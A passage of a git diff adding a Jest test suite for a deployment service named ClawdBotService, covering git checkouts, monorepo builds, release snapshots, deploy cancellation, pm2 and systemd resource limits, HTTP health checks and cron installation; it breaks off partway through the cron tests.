@@ -0,0 +1,768 @@
+const fs = require('fs');
+const net = require('net');
+const os = require('os');
+const path = require('path');
+const { once } = require('events');
+const { execFileSync, spawn, spawnSync } = require('child_process');
+const ClawdBotService = require('../src/services/ClawdBotService');
+const { localSshManager, runLocally } = require('./helpers/localShell');
+
+// git in a directory, with an identity and no global config
+const git = (cwd, ...args) => execFileSync('git', args, {
+    cwd,
+    env: {
+        PATH: process.env.PATH,
+        HOME: cwd,
+        GIT_CONFIG_NOSYSTEM: '1',
+        GIT_AUTHOR_NAME: 'Dev',
+        GIT_AUTHOR_EMAIL: 'dev@example.com',
+        GIT_COMMITTER_NAME: 'Dev',
+        GIT_COMMITTER_EMAIL: 'dev@example.com'
+    }
+}).toString().trim();
+
+// A repository with two commits on main and one on a feature branch
+const createRepository = (dir) => {
+    fs.mkdirSync(path.join(dir, 'apps/api'), { recursive: true });
+    git(dir, 'init', '--quiet', '--initial-branch=main');
+    fs.writeFileSync(path.join(dir, 'apps/api/server.js'), 'v1\n');
+    git(dir, 'add', '-A');
+    git(dir, 'commit', '--quiet', '-m', 'v1');
+    const first = git(dir, 'rev-parse', 'HEAD');
+    fs.writeFileSync(path.join(dir, 'apps/api/server.js'), 'v2\n');
+    git(dir, 'commit', '--quiet', '-am', 'v2');
+    const head = git(dir, 'rev-parse', 'HEAD');
+    git(dir, 'checkout', '--quiet', '-b', 'feature/login');
+    fs.writeFileSync(path.join(dir, 'apps/api/server.js'), 'feature\n');
+    git(dir, 'commit', '--quiet', '-am', 'feature');
+    const feature = git(dir, 'rev-parse', 'HEAD');
+    git(dir, 'checkout', '--quiet', 'main');
+    return { first, head, feature };
+};
+
+describe('ClawdBotService', () => {
+    let clawdBot;
+    let dir;
+
+    beforeEach(() => {
+        clawdBot = new ClawdBotService();
+        dir = fs.mkdtempSync(path.join(os.tmpdir(), 'clawdeploy-app-'));
+    });
+
+    afterEach(() => {
+        fs.rmSync(dir, { recursive: true, force: true });
+        jest.restoreAllMocks();
+    });
+
+    describe('prepareSource', () => {
+        let repo;
+        let commits;
+        const logMessage = jest.fn();
+
+        beforeEach(() => {
+            repo = path.join(dir, 'repo');
+            commits = createRepository(repo);
+            clawdBot.ssh = localSshManager();
+            clawdBot.sourcesPath = path.join(dir, 'sources');
+        });
+
+        const read = (source) => fs.readFileSync(path.join(source.path, 'apps/api/server.js'), 'utf8');
+
+        it('checks out the head of the default branch', async () => {
+            const source = await clawdBot.prepareSource(repo, 'shop_backend', {}, logMessage);
+
+            expect(source).toMatchObject({ success: true, path: path.join(dir, 'sources/shop_backend'), commitSha: commits.head });
+            expect(read(source)).toBe('v2\n');
+        });
+
+        it('checks out a branch', async () => {
+            const source = await clawdBot.prepareSource(repo, 'shop_backend', { branch: 'feature/login' }, logMessage);
+
+            expect(source.commitSha).toBe(commits.feature);
+            expect(read(source)).toBe('feature\n');
+        });
+
+        it('pins a commit, abbreviated or not, on a named branch', async () => {
+            const source = await clawdBot.prepareSource(repo, 'shop_backend', { commit: commits.first.slice(0, 7) }, logMessage);
+
+            expect(source.commitSha).toBe(commits.first);
+            expect(read(source)).toBe('v1\n');
+            expect(git(source.path, 'rev-parse', '--abbrev-ref', 'HEAD')).toBe('clawdeploy-pinned');
+        });
+
+        it('replaces the checkout of an earlier deploy', async () => {
+            await clawdBot.prepareSource(repo, 'shop_backend', { branch: 'feature/login' }, logMessage);
+            const source = await clawdBot.prepareSource(repo, 'shop_backend', { branch: 'main' }, logMessage);
+
+            expect(read(source)).toBe('v2\n');
+        });
+
+        it('names a branch that does not exist', async () => {
+            const source = await clawdBot.prepareSource(repo, 'shop_backend', { branch: 'release' }, logMessage);
+
+            expect(source).toEqual({ success: false, error: 'Branch "release" not found in repository' });
+            expect(fs.existsSync(path.join(dir, 'sources/shop_backend'))).toBe(false);
+        });
+
+        it('rejects a commit that is not on the branch it was pinned with', async () => {
+            const missing = 'f'.repeat(40);
+            const source = await clawdBot.prepareSource(repo, 'shop_backend', { branch: 'main', commit: missing }, logMessage);
+
+            expect(source).toEqual({ success: false, error: `Commit ${missing} not found on branch main` });
+        });
+    });
+
+    describe('monorepo root directory', () => {
+        let repo;
+        let commits;
+        const logMessage = jest.fn();
+
+        beforeEach(() => {
+            repo = path.join(dir, 'repo');
+            commits = createRepository(repo);
+            fs.mkdirSync(path.join(repo, 'apps/web'));
+            fs.writeFileSync(path.join(repo, 'apps/web/index.html'), '<h1>shop</h1>\n');
+            fs.writeFileSync(path.join(repo, 'package.json'), '{"private":true}\n');
+            git(repo, 'add', '-A');
+            git(repo, 'commit', '--quiet', '-m', 'web');
+            commits.web = git(repo, 'rev-parse', 'HEAD');
+            clawdBot.ssh = localSshManager();
+            clawdBot.sourcesPath = path.join(dir, 'sources');
+        });
+
+        it('hands over a repository made of the root directory alone', async () => {
+            const source = await clawdBot.prepareSource(repo, 'shop_backend', { rootDirectory: 'apps/api' }, logMessage);
+
+            expect(source).toMatchObject({
+                success: true,
+                path: path.join(dir, 'sources/shop_backend/apps/api'),
+                checkoutPath: path.join(dir, 'sources/shop_backend'),
+                commitSha: commits.web
+            });
+            expect(git(source.path, 'ls-files')).toBe('server.js');
+            expect(git(source.path, 'rev-list', '--count', 'HEAD')).toBe('1');
+            expect(git(source.path, 'status', '--porcelain')).toBe('');
+        });
+
+        it('reports the monorepo commit, not the staging commit, as deployed', async () => {
+            const source = await clawdBot.prepareSource(repo, 'shop_backend', { rootDirectory: 'apps/api', commit: commits.first }, logMessage);
+            jest.spyOn(clawdBot, 'getAppDirectory').mockResolvedValue(source.path);
+
+            expect(git(source.path, 'rev-parse', 'HEAD')).not.toBe(commits.first);
+            expect(await clawdBot.resolveDeployedCommit('shop_backend')).toBe(commits.first);
+        });
+
+        it('reports the checked out commit of a plain repository', async () => {
+            const source = await clawdBot.prepareSource(repo, 'shop_backend', { branch: 'feature/login' }, logMessage);
+            jest.spyOn(clawdBot, 'getAppDirectory').mockResolvedValue(source.path);
+
+            expect(await clawdBot.resolveDeployedCommit('shop_backend')).toBe(commits.feature);
+        });
+
+        it('names a root directory missing at the requested ref and removes the checkout', async () => {
+            const source = await clawdBot.prepareSource(repo, 'shop_frontend', { rootDirectory: 'apps/web', commit: commits.head }, logMessage);
+
+            expect(source).toEqual({ success: false, error: 'Root directory "apps/web" not found in repository' });
+            expect(fs.existsSync(path.join(dir, 'sources/shop_frontend'))).toBe(false);
+        });
+
+        describe('files of a running component', () => {
+            let appDir;
+
+            beforeEach(async () => {
+                appDir = (await clawdBot.prepareSource(repo, 'shop_frontend', {}, logMessage)).path;
+            });
+
+            it('finds the component inside a checkout started from the repository root', async () => {
+                jest.spyOn(clawdBot, 'getAppDirectory').mockResolvedValue(appDir);
+
+                expect(await clawdBot.getComponentDirectory('shop_frontend', 'apps/web')).toBe(`${appDir}/apps/web`);
+                expect(await clawdBot.getComponentDirectory('shop_frontend', 'apps/admin')).toBe(appDir);
+                expect(await clawdBot.getComponentDirectory('shop_frontend')).toBe(appDir);
+            });
+
+            it('uses the working directory of a process started in the root directory', async () => {
+                jest.spyOn(clawdBot, 'getAppDirectory').mockResolvedValue(`${appDir}/apps/web`);
+
+                expect(await clawdBot.getComponentDirectory('shop_frontend', 'apps/web')).toBe(`${appDir}/apps/web`);
+            });
+
+            it('deletes the whole checkout of a process that ran from its root directory', async () => {
+                // pm2 stand-in: jlist prints the process list, delete logs its argument
+                const bin = path.join(dir, 'bin');
+                fs.mkdirSync(bin);
+                fs.writeFileSync(path.join(dir, 'pm2.json'), JSON.stringify([{ name: 'shop_frontend', pm2_env: { pm_cwd: `${appDir}/apps/web` } }]));
+                fs.writeFileSync(path.join(bin, 'pm2'),
+                    `#!/bin/bash\ncase "$1" in jlist) cat '${dir}/pm2.json' ;; delete) echo "$2" >> '${dir}/deleted' ;; esac\n`, { mode: 0o755 });
+                const ssh = clawdBot.ssh;
+                const run = ssh.executeCommand;
+                ssh.executeCommand = (command, options = {}) =>
+                    run(command, { ...options, env: { ...process.env, PATH: `${bin}:${process.env.PATH}` } });
+                jest.spyOn(console, 'log').mockImplementation(() => {});
+
+                expect(await ssh.deletePM2Process('shop_frontend', 'apps/web')).toBe(true);
+
+                expect(fs.readFileSync(path.join(dir, 'deleted'), 'utf8')).toBe('shop_frontend\n');
+                expect(fs.existsSync(appDir)).toBe(false);
+                expect(fs.existsSync(repo)).toBe(true);
+            });
+        });
+    });
+
+    describe('release snapshots', () => {
+        let appDir;
+
+        beforeEach(() => {
+            appDir = path.join(dir, 'apps/shop_backend');
+            fs.mkdirSync(path.join(appDir, 'dist'), { recursive: true });
+            fs.writeFileSync(path.join(appDir, 'dist/server.js'), 'v1');
+            fs.writeFileSync(path.join(appDir, '.env'), "PORT='3100'\n");
+            clawdBot.ssh = localSshManager();
+            clawdBot.releasesPath = path.join(dir, 'releases');
+            jest.spyOn(clawdBot.ssh, 'getPM2Processes').mockResolvedValue([{
+                name: 'shop_backend',
+                pm2_env: { pm_cwd: appDir, pm_exec_path: path.join(appDir, 'dist/server.js'), args: ['--port', '3100'], exec_interpreter: 'node' }
+            }]);
+        });
+
+        it('copies the build directory, dotfiles included, with the command PM2 runs', async () => {
+            const snapshot = await clawdBot.snapshotRelease('shop_backend', 'r1');
+
+            expect(snapshot).toEqual({
+                success: true,
+                appDir,
+                snapshotPath: path.join(dir, 'releases/shop_backend/r1'),
+                script: path.join(appDir, 'dist/server.js'),
+                args: ['--port', '3100'],
+                interpreter: 'node'
+            });
+            expect(fs.readFileSync(path.join(snapshot.snapshotPath, '.env'), 'utf8')).toBe("PORT='3100'\n");
+
+            // Later builds do not touch it
+            fs.writeFileSync(path.join(appDir, 'dist/server.js'), 'v2');
+            expect(fs.readFileSync(path.join(snapshot.snapshotPath, 'dist/server.js'), 'utf8')).toBe('v1');
+        });
+
+        it('replaces a snapshot taken under the same key', async () => {
+            const first = await clawdBot.snapshotRelease('shop_backend', 'r1');
+            fs.writeFileSync(path.join(first.snapshotPath, 'stale.txt'), 'left over');
+
+            const second = await clawdBot.snapshotRelease('shop_backend', 'r1');
+
+            expect(fs.existsSync(path.join(second.snapshotPath, 'stale.txt'))).toBe(false);
+        });
+
+        it('fails for a process PM2 does not know', async () => {
+            expect(await clawdBot.snapshotRelease('shop_frontend', 'r1'))
+                .toEqual({ success: false, error: 'No working directory found for shop_frontend' });
+        });
+
+        it('only deletes snapshots inside the releases directory', async () => {
+            const snapshot = await clawdBot.snapshotRelease('shop_backend', 'r1');
+
+            expect(await clawdBot.deleteReleaseSnapshot(appDir)).toBe(false);
+            expect(await clawdBot.deleteReleaseSnapshot(`${dir}/releases`)).toBe(false);
+            expect(fs.existsSync(appDir)).toBe(true);
+            expect(await clawdBot.deleteReleaseSnapshot(snapshot.snapshotPath)).toBe(true);
+            expect(fs.existsSync(snapshot.snapshotPath)).toBe(false);
+        });
+    });
+
+    describe('cancelling a deploy', () => {
+        const appName = `cancel_test_${process.pid}`;
+        let leader;
+
+        // Whether a process still runs (a zombie waiting for its parent does not)
+        const isRunning = (pid) => {
+            try {
+                return !/^\d+ \(.*\) Z/.test(fs.readFileSync(`/proc/${pid}/stat`, 'utf8'));
+            } catch (error) {
+                return false;
+            }
+        };
+
+        // A deployer like the one deploy() runs over SSH: leader of its own
+        // process group, with its PID file and a child doing the work
+        const startDeployer = async () => {
+            const childFile = path.join(dir, 'child.pid');
+            leader = spawn('bash', ['-c', `echo $$ > '${clawdBot.getDeployerPidFile(appName)}'; sleep 60 & echo $! > '${childFile}'; wait`], {
+                detached: true,
+                stdio: 'ignore'
+            });
+            const stopped = new Promise(resolve => leader.on('exit', (code, signal) => resolve(signal)));
+
+            while (!fs.existsSync(childFile) || !fs.readFileSync(childFile, 'utf8').trim()) {
+                await new Promise(resolve => setTimeout(resolve, 20));
+            }
+            return { stopped, childPid: Number(fs.readFileSync(childFile, 'utf8')) };
+        };
+
+        beforeEach(() => {
+            clawdBot.ssh = localSshManager();
+        });
+
+        afterEach(() => {
+            if (leader && leader.exitCode === null && leader.signalCode === null) {
+                process.kill(-leader.pid, 'SIGKILL');
+            }
+            leader = null;
+            fs.rmSync(clawdBot.getDeployerPidFile(appName), { force: true });
+        });
+
+        it('stops the deployer together with the commands it started', async () => {
+            const { stopped, childPid } = await startDeployer();
+
+            expect(await clawdBot.killDeployer(appName)).toBe(true);
+
+            expect(await stopped).toBe('SIGTERM');
+            for (let attempt = 0; attempt < 50 && isRunning(childPid); attempt++) {
+                await new Promise(resolve => setTimeout(resolve, 20));
+            }
+            expect(isRunning(childPid)).toBe(false);
+            expect(fs.existsSync(clawdBot.getDeployerPidFile(appName))).toBe(false);
+        });
+
+        it('reports nothing to stop when no deployer runs for the app', async () => {
+            expect(await clawdBot.killDeployer(appName)).toBe(false);
+        });
+
+        it('ends a wait between deploy steps as soon as the deploy is cancelled', async () => {
+            const controller = new AbortController();
+            const started = Date.now();
+
+            setTimeout(() => controller.abort(), 20);
+            await clawdBot.wait(60000, controller.signal);
+
+            expect(Date.now() - started).toBeLessThan(1000);
+        });
+    });
+
+    describe('configured commands', () => {
+        let bin;
+        const logMessage = jest.fn();
+
+        beforeEach(() => {
+            // nvm stand-in: "nvm use" puts a node printing the version first on PATH
+            bin = path.join(dir, 'bin');
+            fs.mkdirSync(bin);
+            clawdBot.nvmDir = path.join(dir, 'nvm');
+            fs.mkdirSync(clawdBot.nvmDir);
+            fs.writeFileSync(path.join(clawdBot.nvmDir, 'nvm.sh'), [
+                'nvm() {',
+                `    echo "nvm $*" >> '${dir}/nvm.log'`,
+                '    if [ "$1" = use ]; then',
+                '        mkdir -p "$NVM_DIR/$2/bin" && printf \'#!/bin/sh\\necho v%s\\n\' "$2" > "$NVM_DIR/$2/bin/node"',
+                '        chmod +x "$NVM_DIR/$2/bin/node" && export PATH="$NVM_DIR/$2/bin:$PATH"',
+                '    fi',
+                '}',
+                ''
+            ].join('\n'));
+            clawdBot.ssh = localSshManager();
+        });
+
+        it('runs a step in the component directory with its Node version, .env and port', async () => {
+            const appDir = path.join(dir, "shop's api");
+            fs.mkdirSync(appDir);
+            fs.writeFileSync(path.join(appDir, '.env'), "API_KEY='k$y'\n");
+
+            const result = await runLocally(
+                `${clawdBot.getStepPrelude(appDir, { nodeVersion: '18.19.0', port: 3100 })} && echo "$(node) $PWD $API_KEY $PORT"`
+            );
+
+            expect(result.stdout).toBe(`v18.19.0 ${appDir} k$y 3100`);
+            expect(fs.readFileSync(path.join(dir, 'nvm.log'), 'utf8')).toBe('nvm install 18.19.0\nnvm use 18.19.0\n');
+        });
+
+        it('leaves Node and PORT as they are when neither is configured', async () => {
+            const result = await runLocally(`${clawdBot.getStepPrelude(dir)} && echo "\${PORT:-unset}"; type nvm >/dev/null 2>&1 || echo no-nvm`, {
+                env: { ...process.env, PORT: '' }
+            });
+
+            expect(result.stdout).toBe('unset\nno-nvm');
+        });
+
+        it('fails a step with its exit code and the end of its output', async () => {
+            const step = clawdBot.runBuildStep('shop_backend', 'Build', dir, 'for i in $(seq 1 30); do echo "line $i" >&2; done; exit 3', { logMessage });
+
+            await expect(step).rejects.toThrow(/^Build failed \(exit 3\):\n(.*\n)*line 11\nline 12\n(.*\n)*line 30$/);
+            await expect(step).rejects.not.toThrow(/line 10\n/);
+            expect(fs.existsSync(clawdBot.getDeployerPidFile('shop_backend'))).toBe(false);
+        });
+
+        describe('runCustomPipeline', () => {
+            let checkout;
+            let phases;
+
+            beforeEach(() => {
+                // pm2 and npm stand-ins recording how they were called
+                fs.writeFileSync(path.join(bin, 'pm2'), [
+                    '#!/bin/bash',
+                    'case "$1" in',
+                    "    jlist) echo '[]' ;;",
+                    '    delete) exit 1 ;;',
+                    `    start) shift; pwd > '${dir}/pm2-cwd'; printf '%s\\0' "$@" > '${dir}/pm2-start' ;;`,
+                    'esac',
+                    ''
+                ].join('\n'), { mode: 0o755 });
+                fs.writeFileSync(path.join(bin, 'npm'), `#!/bin/sh\necho "npm $*" >> '${dir}/npm.log'\n`, { mode: 0o755 });
+                const run = clawdBot.ssh.executeCommand;
+                clawdBot.ssh.executeCommand = (command, options = {}) =>
+                    run(command, { ...options, env: { ...process.env, PATH: `${bin}:${process.env.PATH}` } });
+
+                checkout = path.join(dir, 'sources/shop_backend');
+                fs.mkdirSync(path.join(checkout, 'apps/api'), { recursive: true });
+                fs.writeFileSync(path.join(checkout, 'apps/api/server.js'), 'v2\n');
+                clawdBot.appsPath = path.join(dir, 'apps');
+                fs.mkdirSync(path.join(clawdBot.appsPath, 'shop_backend'), { recursive: true });
+                fs.writeFileSync(path.join(clawdBot.appsPath, 'shop_backend/server.js'), 'v1\n');
+
+                phases = [];
+                jest.spyOn(clawdBot, 'wait').mockResolvedValue();
+                jest.spyOn(clawdBot, 'checkDeploymentStatus').mockResolvedValue({ running: true, status: 'online' });
+                jest.spyOn(clawdBot, 'detectActualPort').mockResolvedValue(3100);
+                jest.spyOn(clawdBot, 'verifyDeployment').mockResolvedValue({ success: true });
+                jest.spyOn(console, 'log').mockImplementation(() => {});
+            });
+
+            const deploy = (commands, envVars = {}) => clawdBot.runCustomPipeline(
+                null, { checkoutPath: checkout, path: checkout }, 3100, 'shop-api.example.com', 'shop_backend', envVars, null,
+                { rootDirectory: 'apps/api', commands, onPhase: (phase) => phases.push(phase) }
+            );
+
+            // What the PM2 process runs: the recorded pm2 start arguments, run in its directory
+            const startedProcess = () => {
+                const [script, ...args] = fs.readFileSync(path.join(dir, 'pm2-start'), 'utf8').split('\0').slice(0, -1);
+                const cwd = fs.readFileSync(path.join(dir, 'pm2-cwd'), 'utf8').trim();
+                const separator = args.indexOf('--');
+                const result = spawnSync(script, args.slice(separator + 1), { cwd, timeout: 10000 });
+                return { cwd, options: args.slice(0, separator), output: result.stdout.toString().trim() };
+            };
+
+            it('installs, builds and starts with the commands in the component directory', async () => {
+                const result = await deploy({
+                    install_command: 'echo installed > install.txt',
+                    build_command: 'printf %s "$API_URL" > build.txt',
+                    start_command: 'echo "$GREETING from $(node) on $PORT"',
+                    node_version: '20'
+                }, { API_URL: 'https://shop-api.example.com', GREETING: 'hello', PORT: '3100' });
+
+                const appDir = path.join(dir, 'apps/shop_backend/apps/api');
+                expect(result).toMatchObject({ success: true, appName: 'shop_backend', actualPort: 3100, portChanged: false });
+                expect(phases).toEqual(['installing', 'building', 'starting', 'port_detection', 'verifying']);
+                expect(fs.readFileSync(path.join(appDir, 'server.js'), 'utf8')).toBe('v2\n');
+                expect(fs.readFileSync(path.join(appDir, 'build.txt'), 'utf8')).toBe('https://shop-api.example.com');
+                expect(fs.existsSync(path.join(appDir, 'install.txt'))).toBe(true);
+                expect(fs.existsSync(checkout)).toBe(false);
+                expect(fs.existsSync(path.join(dir, 'npm.log'))).toBe(false);
+
+                const started = startedProcess();
+                expect(started.cwd).toBe(appDir);
+                expect(started.options).toEqual(['--name', 'shop_backend']);
+                expect(started.output).toBe('hello from v20 on 3100');
+            });
+
+            it('runs npm install for a package.json without an install command, and no build without a build command', async () => {
+                fs.writeFileSync(path.join(checkout, 'apps/api/package.json'), '{}\n');
+
+                const result = await deploy({ start_command: 'node server.js' });
+
+                expect(result.success).toBe(true);
+                expect(fs.readFileSync(path.join(dir, 'npm.log'), 'utf8')).toBe('npm install\n');
+                expect(phases).toEqual(['installing', 'starting', 'port_detection', 'verifying']);
+            });
+
+            it('keeps the running version when the build fails', async () => {
+                const result = await deploy({ build_command: 'echo "src/app.ts(3,1): error TS1005" >&2; exit 2', start_command: 'node dist/server.js' });
+
+                expect(result).toEqual({ success: false, error: 'Build failed (exit 2):\nsrc/app.ts(3,1): error TS1005' });
+                expect(fs.readFileSync(path.join(dir, 'apps/shop_backend/server.js'), 'utf8')).toBe('v1\n');
+                expect(fs.existsSync(path.join(dir, 'pm2-start'))).toBe(false);
+            });
+
+            it('does not start with environment variables it cannot write', async () => {
+                const result = await deploy({ start_command: 'node server.js' }, { SECRET: `it's "$HOME"` });
+
+                expect(result).toEqual({ success: false, error: expect.stringMatching(/^Value of SECRET cannot combine a single quote/) });
+                expect(phases).toEqual([]);
+            });
+        });
+    });
+
+    describe('resource limits', () => {
+        const limits = { plan: 'starter', memory_mb: 512, cpu_percent: 50 };
+        const command = { script: 'node', args: ['server.js', '--title', "Shop's API"], interpreter: 'none' };
+        let messages;
+
+        beforeEach(() => {
+            // pm2 stand-in recording the arguments, directory and PORT of pm2 start
+            const bin = path.join(dir, 'bin');
+            fs.mkdirSync(bin);
+            fs.writeFileSync(path.join(bin, 'pm2'), [
+                '#!/bin/bash',
+                'case "$1" in',
+                `    jlist) cat '${dir}/jlist.json' ;;`,
+                `    delete) echo "$2" >> '${dir}/pm2-deleted' ;;`,
+                `    start) shift; echo "$PWD $PORT" > '${dir}/pm2-env'; printf '%s\\0' "$@" > '${dir}/pm2-start' ;;`,
+                'esac',
+                ''
+            ].join('\n'), { mode: 0o755 });
+            clawdBot.ssh = localSshManager();
+            clawdBot.ssh.executeCommand = (cmd, options = {}) =>
+                runLocally(cmd, { ...options, env: { ...process.env, PATH: `${bin}:${process.env.PATH}` } });
+            messages = [];
+        });
+
+        const startArgs = () => fs.readFileSync(path.join(dir, 'pm2-start'), 'utf8').split('\0').slice(0, -1);
+
+        // The PM2 process entry for what the stand-in was started with, as pm2 jlist reports it
+        const startedProcess = (name) => {
+            const [script, ...rest] = startArgs();
+            const separator = rest.indexOf('--');
+            return {
+                name,
+                pm2_env: {
+                    pm_cwd: dir,
+                    pm_exec_path: script === 'systemd-run' ? '/usr/bin/systemd-run' : path.join(dir, script),
+                    args: separator === -1 ? [] : rest.slice(separator + 1),
+                    exec_interpreter: 'none',
+                    PORT: '3100'
+                }
+            };
+        };
+
+        it('lets PM2 restart an app above its memory limit when there is no systemd', async () => {
+            clawdBot.cpuQuotaSupported = false;
+
+            const start = await clawdBot.getStartCommand('shop_backend', dir, command, { port: 3100, limits });
+            await clawdBot.ssh.executeCommand(start.command);
+
+            expect(start.limits).toEqual({ memory_mb: 512, cpu_percent: null });
+            expect(startArgs()).toEqual(['node', '--name', 'shop_backend', '--max-memory-restart', '512M', '--', 'server.js', '--title', "Shop's API"]);
+            expect(fs.readFileSync(path.join(dir, 'pm2-env'), 'utf8')).toBe(`${dir} 3100\n`);
+        });
+
+        it('runs the app in a systemd scope with a CPU quota, under the memory limit', async () => {
+            clawdBot.cpuQuotaSupported = true;
+
+            const start = await clawdBot.getStartCommand('shop_backend', dir, { ...command, script: 'dist/server.js', args: [], interpreter: 'node' }, { limits });
+            await clawdBot.ssh.executeCommand(start.command);
+
+            expect(start.limits).toEqual({ memory_mb: 512, cpu_percent: 50 });
+            expect(startArgs()).toEqual([
+                'systemd-run', '--name', 'shop_backend', '--max-memory-restart', '512M',
+                '--', '--scope', '--quiet', '-p', 'CPUQuota=50%', '--', 'node', 'dist/server.js'
+            ]);
+        });
+
+        it('starts without limits when the plan has none', async () => {
+            const start = await clawdBot.getStartCommand('shop_backend', dir, { script: 'npm', args: ['start'] });
+
+            expect(start).toEqual({ command: `cd '${dir}' && pm2 start 'npm' --name shop_backend -- 'start'`, limits: { memory_mb: null, cpu_percent: null } });
+            expect(clawdBot.describeLimits(start.limits)).toBe('none');
+        });
+
+        it('gets the app command back out of the systemd wrapper', async () => {
+            clawdBot.cpuQuotaSupported = true;
+            await clawdBot.ssh.executeCommand((await clawdBot.getStartCommand('shop_backend', dir, command, { limits })).command);
+
+            expect(clawdBot.getProcessCommand(startedProcess('shop_backend'))).toEqual(command);
+            expect(clawdBot.getProcessCommand({ pm2_env: { pm_exec_path: '/srv/app/server.js', args: '--verbose', exec_interpreter: 'node' } }))
+                .toEqual({ script: '/srv/app/server.js', args: ['--verbose'], interpreter: 'node' });
+        });
+
+        it('restarts a running app under new limits with the same command and port', async () => {
+            clawdBot.cpuQuotaSupported = true;
+            await clawdBot.ssh.executeCommand((await clawdBot.getStartCommand('shop_backend', dir, command, { limits })).command);
+            fs.writeFileSync(path.join(dir, 'jlist.json'), JSON.stringify([startedProcess('shop_backend')]));
+
+            const result = await clawdBot.applyResourceLimits('shop_backend', { memory_mb: 1024, cpu_percent: 100 }, 3999, (message) => messages.push(message));
+
+            expect(result).toEqual({ success: true, limits: { memory_mb: 1024, cpu_percent: 100 } });
+            expect(fs.readFileSync(path.join(dir, 'pm2-deleted'), 'utf8')).toBe('shop_backend\n');
+            expect(startArgs()).toEqual([
+                'systemd-run', '--name', 'shop_backend', '--max-memory-restart', '1024M',
+                '--', '--scope', '--quiet', '-p', 'CPUQuota=100%', '--', 'node', 'server.js', '--title', "Shop's API"
+            ]);
+            expect(fs.readFileSync(path.join(dir, 'pm2-env'), 'utf8')).toBe(`${dir} 3100\n`);
+            expect(messages).toEqual(['📏 Resource limits: 1024 MB memory, 100% CPU']);
+        });
+
+        it('reports an app PM2 does not know', async () => {
+            fs.writeFileSync(path.join(dir, 'jlist.json'), '[]');
+
+            expect(await clawdBot.applyResourceLimits('shop_backend', limits, 3100, () => {}))
+                .toEqual({ success: false, error: 'PM2 process "shop_backend" not found' });
+        });
+
+        it('looks for systemd once per service', async () => {
+            const executeCommand = jest.fn().mockResolvedValue({ success: false, stdout: '', stderr: '' });
+            clawdBot.ssh = { executeCommand };
+
+            await clawdBot.getStartCommand('a', dir, command, { limits });
+            await clawdBot.getStartCommand('b', dir, command, { limits });
+            await clawdBot.getStartCommand('c', dir, command, { limits: { memory_mb: 256 } });
+
+            expect(executeCommand).toHaveBeenCalledTimes(1);
+            expect(executeCommand).toHaveBeenCalledWith('[ -d /run/systemd/system ] && command -v systemd-run');
+        });
+    });
+
+    describe('checkHttpHealth', () => {
+        let app;
+        let messages;
+        const log = (message) => messages.push(message);
+
+        // An app whose /healthz answers with the given status codes in turn, the
+        // last one from then on; / is a 404 and /hang never answers. It runs in
+        // its own process because the local shell blocks this one while curl waits.
+        const startApp = async (statuses) => {
+            app = spawn(process.execPath, ['-e', `
+                const statuses = ${JSON.stringify(statuses)};
+                let served = 0;
+                const server = require('http').createServer((req, res) => {
+                    if (req.url === '/hang') return;
+                    res.statusCode = req.url === '/healthz' ? statuses[Math.min(served++, statuses.length - 1)] : 404;
+                    res.end();
+                });
+                server.listen(0, '127.0.0.1', () => console.log(server.address().port));
+            `], { stdio: ['ignore', 'pipe', 'inherit'] });
+            const [port] = await once(app.stdout, 'data');
+            return Number(port.toString());
+        };
+
+        beforeEach(() => {
+            clawdBot.ssh = localSshManager();
+            messages = [];
+        });
+
+        afterEach(async () => {
+            if (app && app.exitCode === null) {
+                app.kill();
+                await once(app, 'exit');
+            }
+            app = null;
+        });
+
+        it('retries until the app answers with an expected status', async () => {
+            const port = await startApp([502, 503, 200]);
+
+            const result = await clawdBot.checkHttpHealth(port, log, { path: '/healthz', attempts: 5, intervalMs: 10 });
+
+            expect(result).toMatchObject({ success: true, statusCode: 200 });
+            expect(result.latencyMs).toBeGreaterThanOrEqual(0);
+            expect(messages).toEqual([
+                `⏳ Health check on port ${port} returned 502, retrying... (attempt 1/5)`,
+                `⏳ Health check on port ${port} returned 503, retrying... (attempt 2/5)`,
+                `✅ Health check passed on port ${port} (HTTP 200, ${result.latencyMs} ms)`
+            ]);
+        });
+
+        it('counts any answer below 500 as healthy unless a range is configured', async () => {
+            const port = await startApp([200]);
+
+            expect((await clawdBot.checkHttpHealth(port, log, { attempts: 1 })).success).toBe(true);
+
+            const strict = await clawdBot.checkHttpHealth(port, log, { expectedStatus: { min: 200, max: 299 }, attempts: 1 });
+            expect(strict).toMatchObject({ success: false, statusCode: 404, error: `No healthy HTTP response on port ${port} (HTTP 404, expected 200-299)` });
+        });
+
+        it('names the path and the single status it expected', async () => {
+            const port = await startApp([200]);
+
+            const result = await clawdBot.checkHttpHealth(port, log, { path: '/healthz', expectedStatus: { min: 204, max: 204 }, attempts: 2, intervalMs: 10 });
+
+            expect(result.error).toBe(`No healthy HTTP response on port ${port}/healthz (HTTP 200, expected 204)`);
+        });
+
+        it('gives up on an app that does not answer within the timeout', async () => {
+            const port = await startApp([200]);
+
+            const result = await clawdBot.checkHttpHealth(port, log, { path: '/hang', timeoutSeconds: 1, attempts: 1 });
+
+            expect(result).toMatchObject({ success: false, statusCode: null, latencyMs: null });
+            expect(result.error).toBe(`No healthy HTTP response on port ${port}/hang (no response within 1s)`);
+        });
+
+        it('tells a port nothing listens on apart from a slow app', async () => {
+            const probe = net.createServer().listen(0, '127.0.0.1');
+            await once(probe, 'listening');
+            const { port } = probe.address();
+            await new Promise(resolve => probe.close(resolve));
+
+            const result = await clawdBot.checkHttpHealth(port, log, { attempts: 1 });
+
+            expect(result.error).toBe(`No healthy HTTP response on port ${port} (connection refused)`);
+        });
+    });
+
+    describe('installCronJobs', () => {
+        let written;
+
+        beforeEach(() => {
+            written = {};
+            jest.spyOn(clawdBot, 'getAppDirectory').mockResolvedValue(dir);
+            clawdBot.ssh = {
+                executeCommand: jest.fn(async (command) => {
+                    const [, encoded, file] = command.match(/^echo '([^']*)' \| base64 -d > '([^']+)'/);
+                    written[file] = Buffer.from(encoded, 'base64').toString();
+                    return { stdout: '', stderr: '', code: 0, success: true };
+                })
+            };
+        });
+
+        // Runs a crontab line the way cron does: the command after the schedule
+        // and user fields, with \% unescaped, by SHELL with the file's PATH
+        const runCronLine = (line, env) => {
+            const fields = line.split(' ');
+            const command = fields.slice(fields[0].startsWith('@') ? 2 : 6).join(' ');
+            expect(command).not.toMatch(/(^|[^\\])%/);
+
+            const result = spawnSync('/bin/bash', ['-c', command.replace(/\\%/g, '%')], {
+                env: { ...env, HOME: '/root', SHELL: '/bin/bash' },
+                timeout: 10000
+            });
+            return result.status;
+        };
+
+        const install = async (jobs) => {
